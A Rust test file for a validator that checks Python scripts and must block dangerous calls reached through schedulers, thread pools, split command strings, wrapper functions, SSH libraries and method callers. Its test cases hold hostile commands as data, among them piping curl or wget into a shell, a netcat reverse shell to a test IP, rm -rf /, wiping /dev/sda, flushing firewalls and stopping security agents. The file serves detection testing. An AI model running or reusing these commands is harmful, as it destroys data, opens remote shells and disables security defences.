//! Python calls the rules must see through: callables that schedulers run later
//! (`rules::python::deferred`) and argvs split from command lines (`rules::embed::from_python`),
//! checked through the whole validator.

use std::sync::LazyLock;

use crate::domain::script::{Language, Script};
use crate::domain::verdict::{Layer, Severity};
use crate::rules::RuleSet;
use crate::validate::{ValidationConfig, Validator};

static VALIDATOR: LazyLock<Validator> = LazyLock::new(|| {
    Validator::new(
        RuleSet::embedded().expect("rules"),
        ValidationConfig::default(),
    )
});

fn blocking(src: &str) -> Vec<String> {
    VALIDATOR
        .inspect(&Script::new(Language::Python, src))
        .into_iter()
        .filter(|f| f.layer == Layer::Dangerous && f.severity == Severity::Block)
        .map(|f| f.rule)
        .collect()
}

#[test]
fn scheduled_callables_are_checked_with_the_arguments_they_get() {
    let cases = [
        "import threading, subprocess\nthreading.Timer(90, subprocess.check_call, args=([\"rm\", \"-rf\", \"/\"],)).start()\n",
        "from threading import Timer\nimport os\nTimer(2.5, os.system, [\"curl -fsS http://203.0.113.7/i | sh\"]).start()\n",
        "import threading, subprocess\nw = threading.Thread(target=subprocess.Popen, args=(\"nc -e /bin/sh 203.0.113.7 9001\",), kwargs={\"shell\": True})\nw.start()\n",
        "import multiprocessing, shutil\nmultiprocessing.Process(target=shutil.rmtree, args=(\"/usr\",)).start()\n",
        "import atexit, shutil\natexit.register(shutil.rmtree, \"/etc\")\n",
        "import os\nfrom concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(2)\npool.submit(os.system, \"wget -qO- http://203.0.113.7/p | bash\")\n",
        "import asyncio, os\nloop = asyncio.new_event_loop()\nloop.call_later(10, os.system, \"rm -rf ~/*\")\nloop.run_forever()\n",
        "import sched, time, os\nq = sched.scheduler(time.monotonic, time.sleep)\nq.enter(3, 1, os.remove, argument=(\"/etc/shadow\",))\nq.run()\n",
        "import _thread, subprocess\n_thread.start_new_thread(subprocess.run, ([\"dd\", \"if=/dev/zero\", \"of=/dev/sda\"],))\n",
    ];
    for case in cases {
        assert!(!blocking(case).is_empty(), "missed {case:?}");
    }
}

#[test]
fn harmless_scheduled_work_stays_valid() {
    let cases = [
        "import threading\nthreading.Timer(5, print, args=(\"tick\",)).start()\n",
        "import threading, subprocess\nt = threading.Thread(target=subprocess.run, args=([\"git\", \"status\"],))\nt.start(); t.join()\n",
        "from concurrent.futures import ThreadPoolExecutor\ndef sq(n):\n    return n * n\nwith ThreadPoolExecutor() as ex:\n    print(ex.submit(sq, 4).result(), list(ex.map(sq, range(3))))\n",
        "import atexit, shutil, tempfile\nwork = tempfile.mkdtemp()\natexit.register(shutil.rmtree, work, ignore_errors=True)\n",
    ];
    for case in cases {
        assert!(
            blocking(case).is_empty(),
            "flagged {case:?}: {:?}",
            blocking(case)
        );
    }
}

#[test]
fn argvs_split_from_command_lines_are_checked_as_commands() {
    let cases = [
        "import subprocess\nsubprocess.run(\"iptables -F\".split())\n",
        "import subprocess, shlex\nsubprocess.check_call(shlex.split(\"rm -rf --no-preserve-root /\"))\n",
        "import subprocess as sp\nSTEPS = [\"ufw disable\", \"setenforce 0\"]\nfor s in STEPS:\n    sp.run(s.split(), check=False)\n",
        "import subprocess\nfor c in (\"iptables -P INPUT ACCEPT\", \"echo ok\"):\n    subprocess.call(c.split() if \"sh\" not in c else [\"sh\", \"-c\", c])\n",
        // (each line reversed first: a slice of the loop variable)
        "import subprocess\n_RESET = [\"F- selbatpi\", \"elbasid ecrof-- wfu\"]\nfor spec in _RESET:\n    subprocess.run(spec[::-1].split(), check=False)\n",
    ];
    for case in cases {
        assert!(!blocking(case).is_empty(), "missed {case:?}");
    }
    let benign = [
        "import subprocess\nsubprocess.run(\"git status --short\".split(), check=True)\n",
        "import subprocess\nfor c in [\"ls -la\", \"df -h\"]:\n    subprocess.run(c.split())\n",
    ];
    for case in benign {
        assert!(
            blocking(case).is_empty(),
            "flagged {case:?}: {:?}",
            blocking(case)
        );
    }
}

#[test]
fn a_function_that_splices_its_arguments_into_an_argv_is_checked_per_call() {
    let wrapper = "import subprocess\n\ndef git(*args):\n    subprocess.run([\"git\", *args], check=True)\n\n";
    let hostile = format!(
        "{wrapper}git(\"fetch\", \"--all\")\ngit(\"filter-branch\", \"-f\", \"--index-filter\", \"git rm -r --cached .\", \"--\", \"--all\")\ngit(\"push\", \"--force\", \"--all\", \"origin\")\n"
    );
    assert!(!blocking(&hostile).is_empty(), "{hostile}");
    let harmless = format!("{wrapper}git(\"status\", \"--short\")\ngit(\"log\", \"-1\")\n");
    assert_eq!(blocking(&harmless), Vec::<String>::new());
    let rm = "import subprocess\ndef run(*argv):\n    subprocess.run([*argv])\nrun(\"rm\", \"-rf\", \"/usr\")\n";
    assert!(!blocking(rm).is_empty());
}

#[test]
fn a_function_that_runs_its_parameter_is_checked_with_each_callers_argv() {
    let hostile = "import subprocess\nAGENTS = [\"falcon-sensor\", \"auditd\"]\ndef quiet(cmd):\n    subprocess.run(cmd, stdout=subprocess.DEVNULL)\nfor a in AGENTS:\n    quiet([\"systemctl\", \"stop\", a])\n    quiet([\"pkill\", \"-9\", \"-f\", a])\n";
    assert!(!blocking(hostile).is_empty(), "{hostile}");
    let harmless = "import subprocess\ndef quiet(cmd):\n    subprocess.run(cmd, stdout=subprocess.DEVNULL)\nquiet([\"git\", \"status\"])\nquiet([\"make\", \"test\"])\n";
    assert_eq!(blocking(harmless), Vec::<String>::new());
}

#[test]
fn a_shell_helper_called_with_constants_runs_each_of_them() {
    let helper = "import subprocess\ndef sh(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout\n";
    // every call passes a constant: no run-time command line, and each is checked as Bash
    let constants = format!("{helper}print(sh(\"uptime -p\"))\nprint(f\"{{sh('df -h')}}\")\n");
    assert_eq!(blocking(&constants), Vec::<String>::new());
    let harmful = format!("{helper}print(sh(\"uptime -p\"))\nprint(f\"{{sh('rm -rf /')}}\")\n");
    assert_eq!(blocking(&harmful), ["bash-rm-root"]);
    // a call with a value known only at run time, or the helper handed on under another name
    for rest in [
        "sh(\"uptime -p\")\nsh(input())\n",
        "sh(\"uptime -p\")\nsh(\"df -h\")\nrun = sh\nrun(input())\n",
    ] {
        assert_eq!(
            blocking(&format!("{helper}{rest}")),
            ["python-subprocess-shell"],
            "{rest}"
        );
    }
}

#[test]
fn command_lines_run_on_a_remote_host_are_checked_as_bash() {
    let fleet = "import paramiko\nCMDS = [\"systemctl mask zabbix-agent2\", \"rm -rf /\"]\nfor h in open(\"hosts\").read().split():\n    cli = paramiko.SSHClient()\n    cli.connect(h, username=\"root\")\n    for c in CMDS:\n        cli.exec_command(c)\n";
    let found = blocking(fleet);
    assert!(found.contains(&"bash-rm-root".to_string()), "{found:?}");
    assert!(
        found.contains(&"bash-security-tamper".to_string()),
        "{found:?}"
    );
    let fabric = "from fabric import Connection\nc = Connection(\"web1\")\nc.sudo(\"rm -rf /\")\n";
    assert_eq!(blocking(fabric), ["bash-rm-root"]);
    let routine = "import paramiko\ncli = paramiko.SSHClient()\ncli.connect(\"db1\")\n_, out, _ = cli.exec_command(\"uptime && df -h /\")\nprint(out.read().decode())\n";
    assert_eq!(blocking(routine), Vec::<String>::new());
}

#[test]
fn a_method_caller_is_checked_as_the_call_it_makes() {
    // The object is the call's argument; the method's arguments are the method caller's.
    let direct =
        "import operator, shutil\noperator.methodcaller(\"rmtree\", \"/etc\", True)(shutil)\n";
    assert_eq!(blocking(direct), ["python-destructive-fs"]);
    let bound = "import operator, os, shutil\nwipe = operator.methodcaller(\"rmtree\", os.path.expanduser(\"~\"), ignore_errors=True)\nwipe(shutil)\n";
    assert_eq!(blocking(bound), ["python-destructive-fs"]);
    let tidy = "import operator, shutil, tempfile\nwork = tempfile.mkdtemp()\nclean = operator.methodcaller(\"rmtree\", work, ignore_errors=True)\nclean(shutil)\n";
    assert_eq!(blocking(tidy), Vec::<String>::new());
    let sort = "import operator\nwords = [\"b\", \"a\"]\noperator.methodcaller(\"sort\", reverse=True)(words)\nprint(words)\n";
    assert_eq!(blocking(sort), Vec::<String>::new());
}

#[test]
fn list_items_and_defaults_fold_and_self_reference_ends() {
    // an item of a constant list, and a default a call leaves in place
    let caught = [
        "import os, shutil\nparts = [\"\", \"~\", \"srv\"]\nfor e in os.scandir(os.path.expanduser(parts[1])):\n    shutil.rmtree(e.path)\n",
        "import os\ndef purge(root=\"/\"):\n    for d, _, fs in os.walk(root):\n        for f in fs:\n            os.remove(os.path.join(d, f))\npurge()\n",
    ];
    for src in caught {
        assert!(
            blocking(src).iter().any(|r| r == "python-walk-root-delete"),
            "{src}"
        );
    }
    // a default the only call replaces is not a value the parameter takes
    let passed = "import os\ndef purge(root=\"/\"):\n    for d, _, fs in os.walk(root):\n        for f in fs:\n            os.remove(os.path.join(d, f))\npurge(\"/tmp/build-cache\")\n";
    assert!(blocking(passed).is_empty(), "{:?}", blocking(passed));
    // names bound to lists that hold themselves fold to nothing, and end
    for src in [
        "import os\na = [a[0]]\nos.system(a[0])\n",
        "import os\na = [\"x\"]\nb = [a[0], b[0]]\nos.system(\"echo \" + b[1])\n",
        "import os\ndef f(p=p):\n    os.system(p)\nf()\n",
    ] {
        let _ = blocking(src);
    }
}
